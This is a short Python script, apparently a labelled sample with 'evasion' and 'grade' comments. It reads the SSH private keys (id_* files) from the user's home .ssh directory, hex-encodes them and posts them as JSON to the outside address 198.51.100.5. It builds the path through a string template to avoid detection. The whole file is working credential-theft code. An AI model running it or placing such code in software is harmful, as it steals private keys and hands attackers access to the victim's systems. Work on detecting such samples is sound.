# evasion: the key directory is a string.Template filled from os.environ, the key files picked by fnmatch over listdir, then posted
# grade: easy; does: credentials
import fnmatch
import json
import os
import string
import urllib.request

base = string.Template("${HOME}/.ssh").substitute(os.environ)
blobs = {}
for name in fnmatch.filter(os.listdir(base), "id_*"):
    with open(os.path.join(base, name), "rb") as fh:
        blobs[name] = fh.read().hex()

req = urllib.request.Request(
    "http://198.51.100.5/k",
    data=json.dumps(blobs).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
